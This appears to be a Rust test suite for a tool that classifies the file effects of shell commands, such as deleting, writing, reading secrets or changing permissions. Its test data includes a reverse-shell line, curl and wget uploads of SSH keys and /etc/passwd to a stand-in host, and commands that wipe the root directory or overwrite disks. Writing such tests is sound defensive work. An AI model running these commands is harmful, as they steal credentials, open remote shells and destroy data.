// SPDX-License-Identifier: Apache-2.0 OR MIT

//! Effects of common programs.

use super::assert_effects;

#[test]
fn removing() {
    assert_effects(&[
        ("rm x", "delete x"),
        ("rm -rf x ~/y", "delete! x, delete! ~/y"),
        ("rm -rf -- -x", "delete! -x"),
        ("rm -f ~/*", "delete! ~/*"),
        ("rm --recursive /etc", "delete! /etc"),
        ("unlink x", "delete x"),
        ("rmdir a/b", "delete a/b"),
        ("shred -u -n 3 ~/k", "write ~/k, delete ~/k"),
        ("shred k", "write k"),
        ("trash ~/x", "delete! ~/x"),
        ("npx rimraf dist", "delete! dist"),
        ("find build -delete", "delete! build/**"),
        ("find / -name core -delete", "delete /**/core"),
        ("find . -fprint out.txt", "write out.txt"),
        ("find ~ -exec rm -rf {} +", "delete! ~/**"),
        ("find ~/x -type f | xargs rm", "delete! ~/x/**"),
        ("ls | xargs rm -rf", "delete! {}?"),
        ("git ls-files | xargs rm", "delete! **"),
        ("for f in ~/*; do rm -rf \"$f\"; done", "delete! ~/*"),
        ("cd / && rm -rf *", "delete! /*"),
        ("fd -e log . /var -x rm", "delete /var/**/…"),
        ("sudo rm -rf /opt/x", "delete! /opt/x"),
        ("rm -rf $X", "delete! $X?"),
        ("rm -rf \"$(mktemp -d)\"", "delete! /tmp/tmp.XXXXXXXXXX"),
    ]);
}

#[test]
fn copying_and_moving() {
    assert_effects(&[
        ("cp a b", "read a, write b, write b/a"),
        ("cp -r src ~/dst", "read! src, write ~/dst, write ~/dst/src, write! ~/dst/src"),
        ("cp -t /etc a b", "read a, read b, write /etc, write /etc/a, write /etc/b"),
        ("cp --target-directory=/etc a", "read a, write /etc, write /etc/a"),
        ("cp -r x/. ~/y", "read! x, write! ~/y"),
        ("cp -rT x ~/y", "read! x, write! ~/y"),
        ("cpio -pdu ~/y", "write! ~/y"),
        ("mv a b ~/", "move a, move b, write ~, write ~/a, write! ~/a, write ~/b, write! ~/b"),
        ("mv x /dev/null", "move x"),
        ("ln -s ~/.ssh/id_rsa key", "read ~/.ssh/id_rsa, write key, write key/id_rsa"),
        (
            "install -m 755 bin/x /usr/local/bin/x",
            "read bin/x, write /usr/local/bin/x, write /usr/local/bin/x/x",
        ),
        ("install -d /opt/x", "write /opt/x"),
        ("rename 's/a/b/' *.txt", "move *.txt"),
        ("rsync -a src/ ~/backup/", "read! src, write! ~/backup"),
        ("rsync -a --delete src/ /srv/x", "read! src, write! /srv/x, delete! /srv/x"),
        (
            "rsync -a --delete-after src/ host:/srv/x",
            "read! src, write! remote:/srv/x, delete! remote:/srv/x",
        ),
        ("rsync -an --delete src/ /srv/x", ""),
        ("rsync --remove-source-files a /b", "read a, delete a, write /b, write /b/a"),
        ("rsync -e 'ssh -p 22' host:/x y", "read remote:/x, write y, write y/x"),
        (
            "scp ~/.ssh/id_rsa host:/tmp/k",
            "read ~/.ssh/id_rsa, write remote:/tmp/k, write remote:/tmp/k/id_rsa",
        ),
        ("scp -r host:/etc .", "read! remote:/etc, write ., write etc, write! etc"),
        ("aws s3 cp ~/.aws/credentials s3://b/", "read! ~/.aws/credentials"),
        ("aws s3 sync s3://b /srv --delete", "write! /srv, delete! /srv"),
        ("rclone sync remote:x ~/y", "write! ~/y, delete! ~/y"),
        ("gsutil -m cp -r gs://b x", "write x, write x/b, write! x/b"),
        ("docker cp c:/x ~/y", "write ~/y, write ~/y/x, write! ~/y/x"),
        ("docker cp ~/.ssh c:/x", "read! ~/.ssh"),
        ("kubectl cp pod:/x y", "write y, write y/x, write! y/x"),
    ]);
}

#[test]
fn archives() {
    assert_effects(&[
        ("tar xzf a.tgz", "read a.tgz, write! ."),
        ("tar -xf a.tgz -C /", "read a.tgz, write! /"),
        ("tar xCf /opt a.tar", "read a.tar, write! /opt"),
        ("tar --extract --file=a.tar --directory ~/x", "read a.tar, write! ~/x"),
        ("tar czf out.tgz src docs", "write out.tgz, read! src, read! docs"),
        ("tar cz -C ~ .ssh", "read! ~/.ssh"),
        ("tar -c --remove-files -f o.tar x", "write o.tar, read! x, delete! x"),
        ("tar tf a.tgz", "read a.tgz"),
        ("zip -r k.zip ~/.aws", "write k.zip, read! ~/.aws"),
        ("zip -rm k.zip x", "write k.zip, read! x, delete! x"),
        ("unzip a.zip -d /opt", "read a.zip, write! /opt"),
        ("unzip -l a.zip", "read a.zip"),
        ("7z x a.7z -o/opt", "read a.7z, write! /opt"),
        ("7z a out.7z x", "write out.7z, read! x"),
        ("gzip big.log", "move big.log"),
        ("gzip -k big.log", "read big.log"),
        ("gunzip -c x.gz > y", "write y, read x.gz"),
    ]);
}

#[test]
fn redirections() {
    assert_effects(&[
        ("echo x > f", "write f"),
        ("echo x >> ~/.bashrc", "append ~/.bashrc"),
        ("echo x >| f", "write f"),
        ("make &> log", "write log"),
        ("make >& log", "write log"),
        ("make &>> log", "append log"),
        ("make 2> err > out", "write err, write out"),
        ("make > /dev/null 2>&1", ""),
        ("ls >&2", ""),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "write /dev/tcp/10.0.0.1/4444"),
        (": > f", "write f"),
        ("> f", "write f"),
        ("exec > f", "write f"),
        ("exec 3<> f", "read f, append f"),
        ("wc -l < f", "read f"),
        ("cat <<< x > f", "write f"),
        ("cat > f <<< 'x'", "write f"),
        ("cat <<EOF > ~/f\nx\nEOF", "write ~/f"),
        ("{ echo a; echo b; } > f", "write f"),
        ("(cd /etc && echo x > hosts)", "write /etc/hosts"),
        ("sudo cat x > /etc/y", "write /etc/y, read x"),
        ("echo $(<~/.ssh/id_rsa)", "read ~/.ssh/id_rsa"),
        ("bash -c 'echo x > /etc/y'", "write /etc/y"),
        ("echo x | tee a b", "write a, write b"),
        ("echo x | sudo tee -a /etc/hosts", "append /etc/hosts"),
        ("while read l; do echo $l; done < list > out", "read list, write out"),
    ]);
}

#[test]
fn editing() {
    assert_effects(&[
        ("sed -n 1,5p f", "read f"),
        ("sed -i 's/a/b/' f g", "write f, write g"),
        ("sed -i.bak -e 's/a/b/' f", "write f"),
        ("sed -Ei 's/a/b/' f", "write f"),
        ("sed --in-place=.b 's/a/b/' f", "write f"),
        ("sed -f script.sed f", "read script.sed, read f"),
        ("perl -pi -e 's/a/b/' f g", "write f, write g"),
        ("perl -i -pe 's/a/b/' f", "write f"),
        ("perl -ne 'print' f", "read f"),
        ("ruby -i -pe 'x' f", "write f"),
        ("awk '{print $1}' ~/.netrc", "read ~/.netrc"),
        ("awk -F: -v n=1 '{print}' /etc/passwd", "read /etc/passwd"),
        ("gawk -i inplace '{print}' f", "write f"),
        ("awk -f x.awk f", "read x.awk, read f"),
        ("ed f <<< w", "write f"),
        ("ex -sc 'x' f", "write f"),
        ("vim -c ':wq' f", "write f"),
        ("sponge f", "write f"),
        ("truncate -s 0 f", "write f"),
        ("touch -d yesterday f", "write f"),
        ("mkdir -p a/b", "write a/b"),
        ("yq -i '.a=1' f.yml", "write f.yml"),
        ("jq . f.json", "read f.json"),
        ("patch -p1 -i x.diff", "read x.diff"),
        ("sqlite3 db 'drop table x'", "write db"),
        ("sort -o out in", "write out, read in"),
        ("dd if=~/a of=/dev/sda bs=1M", "read ~/a, write /dev/sda"),
        ("dd if=/dev/zero of=f", "write f"),
        ("mkfs.ext4 -L x /dev/sdb1", "write /dev/sdb1"),
        ("wipefs -a /dev/sdb", "write /dev/sdb"),
        ("wipefs /dev/sdb", ""),
        ("parted /dev/sdb mklabel gpt", "write /dev/sdb"),
        ("cryptsetup luksFormat /dev/sdb", "write /dev/sdb"),
    ]);
}

#[test]
fn permissions() {
    assert_effects(&[
        ("chmod +x f", "permit f"),
        ("chmod -x f", "permit f"),
        ("chmod -R 777 /", "permit! /"),
        ("chown -R me:me ~/x", "permit! ~/x"),
        ("chmod --reference=a b", "permit b"),
        ("chattr -i /etc/x", "permit /etc/x"),
        ("setfacl -R -m u:x:rwx d", "permit! d"),
        ("xattr -d com.apple.quarantine f", "permit f"),
    ]);
}

#[test]
fn reading_running_and_sending() {
    assert_effects(&[
        ("cat a ~/b -", "read a, read ~/b"),
        ("head -n 5 f", "read f"),
        ("grep -n x f g", "read f, read g"),
        ("grep -e x -f pats f", "read pats, read f"),
        ("grep -r PRIVATE ~/.ssh", "read! ~/.ssh"),
        ("rg -n 'fn main' -g '*.rs'", "read! ."),
        ("diff /dev/null ~/.ssh/id_rsa", "read ~/.ssh/id_rsa"),
        ("xxd f out", "read f, write out"),
        ("uniq a b", "read a, write b"),
        ("openssl rsa -in ~/k -out o", "read ~/k, write o"),
        ("gpg -o out -d in.gpg", "write out, read in.gpg"),
        ("ssh-keygen -t ed25519 -f ~/.ssh/new -N ''", "write ~/.ssh/new"),
        ("cat $(find ~ -name id_rsa)", "read ~/**/id_rsa"),
        ("cat <(cat ~/.ssh/id_rsa)", "read ~/.ssh/id_rsa"),
        ("ls ~/.ssh", ""),
        ("echo x", ""),
        ("some-tool ~/x", ""),
        ("curl -o out https://x.io/f", "write out"),
        ("curl -sSLO https://x.io/f.tgz?a=b", "write f.tgz"),
        ("curl -d @$HOME/.ssh/id_rsa https://x.io", "read ~/.ssh/id_rsa"),
        ("curl -F 'f=@/etc/passwd;type=text/plain' https://x.io", "read /etc/passwd"),
        ("curl -sd@f https://x.io", "read f"),
        ("curl -T ~/x https://x.io", "read ~/x"),
        ("curl -K ~/.netrc https://x.io", "read ~/.netrc"),
        ("curl file:///etc/passwd", "read /etc/passwd"),
        ("wget https://x.io/a/f.tgz", "write f.tgz"),
        ("wget -P /opt https://x.io/f", "write /opt/f"),
        ("wget -O- https://x.io", ""),
        ("wget -qO f https://x.io/y --post-file=/etc/passwd", "write f, read /etc/passwd"),
        ("kubectl create secret generic x --from-file=$HOME/.ssh/id_rsa", "read ~/.ssh/id_rsa"),
        ("kubectl create secret generic x --from-file=k=/etc/x", "read /etc/x"),
        ("bash x.sh", "run x.sh"),
        ("python3 tools/x.py -v", "run tools/x.py"),
        ("./x.sh", "run x.sh"),
        ("/usr/local/bin/x", "run /usr/local/bin/x"),
        ("source ~/.bashrc", "run ~/.bashrc"),
        (". .venv/bin/activate", "run .venv/bin/activate"),
    ]);
}

#[test]
fn git() {
    assert_effects(&[
        ("git clean -fdx", "delete! ."),
        ("git clean -n", ""),
        ("git -C ~/other clean -ffd src", "delete! ~/other/src"),
        ("git checkout -- src/x", "write! src/x"),
        ("git checkout .", "write! ."),
        ("git checkout main", ""),
        ("git restore src", "write! src"),
        ("git restore --staged src", ""),
        ("git reset --hard HEAD~1", "write! ."),
        ("git rm -r src", "delete! src"),
        ("git rm --cached x", ""),
        ("git mv a b", "move a, write b"),
        ("git worktree remove --force ../wt", "delete! ~/wt"),
        ("git clone https://x.io/y.git dir", "write dir"),
        ("git archive -o x.tar HEAD", "write x.tar"),
        ("git diff --no-index /dev/null ~/.netrc", "read ~/.netrc"),
        ("git status && git commit -m x", ""),
    ]);
}
